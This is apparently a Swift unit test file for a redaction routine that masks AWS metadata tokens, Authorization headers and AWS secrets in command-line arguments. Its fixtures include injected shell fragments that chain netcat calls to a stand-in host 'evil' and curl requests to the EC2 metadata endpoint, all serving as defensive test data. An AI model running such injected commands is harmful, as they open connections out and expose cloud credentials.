import Testing

@testable import ECS

@Suite("Redaction")
struct RedactionTests {
    @Test(
        "takes secrets out of one argument",
        arguments: [
            ("X-aws-ec2-metadata-token: AQAEAJx_y==", "X-aws-ec2-metadata-token: [redacted]"),
            ("x-AWS-ec2-Metadata-Token:AQAE", "x-AWS-ec2-Metadata-Token:[redacted]"),
            ("-HX-aws-ec2-metadata-token: AQAE", "-HX-aws-ec2-metadata-token: [redacted]"),
            ("--header=Authorization: Bearer abc.def", "--header=Authorization: [redacted]"),
            ("Authorization: AWS4-HMAC-SHA256 Credential=A/b, Signature=c", "Authorization: [redacted]"),
            (
                "curl -H 'X-aws-ec2-metadata-token: AQ' http://169.254.169.254/",
                "curl -H 'X-aws-ec2-metadata-token: [redacted]' http://169.254.169.254/"
            ),
            (
                "curl -H \"Authorization: Bearer a b\" http://x; id",
                "curl -H \"Authorization: [redacted] b\" http://x; id"
            ),
            (
                "requests.get(u, headers={'X-aws-ec2-metadata-token': 'AQ', 'b': 1})",
                "requests.get(u, headers={'X-aws-ec2-metadata-token': '[redacted]', 'b': 1})"
            ),
            (
                #"{"Authorization": "Basic dXNlcg==", "c": "d"}"#,
                #"{"Authorization": "[redacted]", "c": "d"}"#
            ),
            (
                #"sh -c "curl -H \"X-aws-ec2-metadata-token: AQ\" u""#,
                #"sh -c "curl -H \"X-aws-ec2-metadata-token: [redacted]\" u""#
            ),
            ("Authorization: c2VjcmV0LnRva2Vu== x", "Authorization: [redacted] x"),
            ("Authorization: token -abc", "Authorization: [redacted]"),
            (
                "Authorization: AWS4-HMAC-SHA256 Credential=A/b/c, SignedHeaders=host;x-amz-date, Signature=c",
                "Authorization: [redacted];x-amz-date, Signature=[redacted]"
            ),
            (
                #"curl -H 'Authorization: Digest username="u", realm="r", response="e"' http://x"#,
                "curl -H 'Authorization: [redacted]' http://x"
            ),
            (
                #"curl "-HAuthorization: Basic dXNlcg==" http://x"#,
                #"curl "-HAuthorization: [redacted]" http://x"#
            ),
            (
                #"curl -H Authorization:\ Bearer\ abc http://x"#,
                #"curl -H Authorization:\ [redacted] http://x"#
            ),
            (
                "curl -H 'x-amz-security-token: IQoJ/+=' -H 'x-amz-date: 2' http://x",
                "curl -H 'x-amz-security-token: [redacted]' -H 'x-amz-date: 2' http://x"
            ),
            (
                "https://b.s3.amazonaws.com/k?X-Amz-Security-Token=IQoJ%2F&X-Amz-Date=2&X-Amz-Signature=0af3",
                "https://b.s3.amazonaws.com/k?X-Amz-Security-Token=[redacted]&X-Amz-Date=2&X-Amz-Signature=[redacted]"
            ),
            (
                "Authorization: AWS4-HMAC-SHA256 SignedHeaders=host;x-amz-security-token, Signature=c",
                "Authorization: [redacted];x-amz-security-token, Signature=[redacted]"
            ),
            ("AWS_SECRET_ACCESS_KEY=a/b+c", "AWS_SECRET_ACCESS_KEY=[redacted]"),
            (
                "sh -c 'AWS_SESSION_TOKEN=IQ aws s3 ls'", "sh -c 'AWS_SESSION_TOKEN=[redacted] aws s3 ls'"
            ),
            ("{'Authorization': ' Bearer abc'}", "{'Authorization': ' [redacted]'}"),
            (
                "X-aws-ec2-metadata-token: A X-aws-ec2-metadata-token: B",
                "X-aws-ec2-metadata-token: [redacted] X-aws-ec2-metadata-token: [redacted]"
            ),
        ])
    func argument(text: String, expected: String) {
        #expect(
            Redaction.argument(Array(text.utf8)[...]).map { String(decoding: $0, as: UTF8.self) } == expected)
    }

    @Test(
        "takes no more than credentials, whatever looks like a header",
        arguments: [
            (
                "Authorization: int = 1\nimport socket\nsocket.socket()",
                "Authorization: [redacted] 1\nimport socket\nsocket.socket()"
            ),
            ("Authorization: a,\nimport socket", "Authorization: [redacted]\nimport socket"),
            ("Authorization: a b,\r\nimport socket", "Authorization: [redacted]\r\nimport socket"),
            ("'Authorization: a\nb'", "'Authorization: [redacted]\nb'"),
            (
                "Authorization: 2>/dev/null; curl http://e; nc evil 1",
                "Authorization: [redacted]>/dev/null; curl http://e; nc evil 1"
            ),
            ("Authorization: a b;nc evil 1", "Authorization: [redacted];nc evil 1"),
            ("Authorization: a b, c|nc evil 1", "Authorization: [redacted]|nc evil 1"),
            ("Authorization: a b&nc evil 1", "Authorization: [redacted]&nc evil 1"),
            ("Authorization: a <(nc evil 1)", "Authorization: [redacted] <(nc evil 1)"),
            ("Authorization: a `nc evil 1`", "Authorization: [redacted] `nc evil 1`"),
            ("Authorization: a.b nc evil 1", "Authorization: [redacted] nc evil 1"),
            ("Authorization: a b nc evil 1", "Authorization: [redacted] nc evil 1"),
            ("Authorization: a b\"c\" nc evil 1", "Authorization: [redacted]\"c\" nc evil 1"),
            ("Authorization: a b=\"c nc evil\"", "Authorization: [redacted]\"c nc evil\""),
            ("Authorization: a b;c, nc evil", "Authorization: [redacted];c, nc evil"),
            ("Authorization: Bearer $TOKEN", "Authorization: [redacted] $TOKEN"),
            ("X-aws-ec2-metadata-token:a;nc evil 1", "X-aws-ec2-metadata-token:[redacted];nc evil 1"),
            ("X-aws-ec2-metadata-token:a|nc evil 1", "X-aws-ec2-metadata-token:[redacted]|nc evil 1"),
            ("X-aws-ec2-metadata-token: a$(nc)", "X-aws-ec2-metadata-token: [redacted]$(nc)"),
            ("X-aws-ec2-metadata-token: '' nc", nil),
            ("X-aws-ec2-metadata-token: $TOKEN", nil),
            ("X-aws-ec2-metadata-token:\nnc evil 1", nil),
            ("Authorization:\nnc evil 1", nil),
            ("Authorization: ;nc evil 1", nil),
        ])
    func noMore(text: String, expected: String?) {
        for redact in [Redaction.argument, Redaction.commandLine] {
            #expect(redact(Array(text.utf8)[...]).map { String(decoding: $0, as: UTF8.self) } == expected)
        }
    }

    @Test(
        "leaves alone what holds no secret",
        arguments: [
            "", "x", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "X-aws-ec2-metadata-token",
            "X-aws-ec2-metadata-token:", "authorization", "http://169.254.169.254/latest/meta-data/",
            "authorizations are fine", "Authorization: ",
        ])
    func harmless(text: String) {
        #expect(Redaction.argument(Array(text.utf8)[...]) == nil)
        #expect(Redaction.commandLine(Array(text.utf8)[...]) == nil)
    }

    @Test(
        "takes secrets out of a command line whose arguments are not known apart",
        arguments: [
            (
                "curl -H Authorization: Bearer abc -v http://x",
                "curl -H Authorization: [redacted] -v http://x"
            ),
            (
                "curl -H Authorization: AWS4 a, b, c http://x", "curl -H Authorization: [redacted] http://x"
            ),
            ("curl -H X-aws-ec2-metadata-token: AQ u", "curl -H X-aws-ec2-metadata-token: [redacted] u"),
        ])
    func commandLine(text: String, expected: String) {
        #expect(
            Redaction.commandLine(Array(text.utf8)[...]).map { String(decoding: $0, as: UTF8.self) }
                == expected)
    }
}
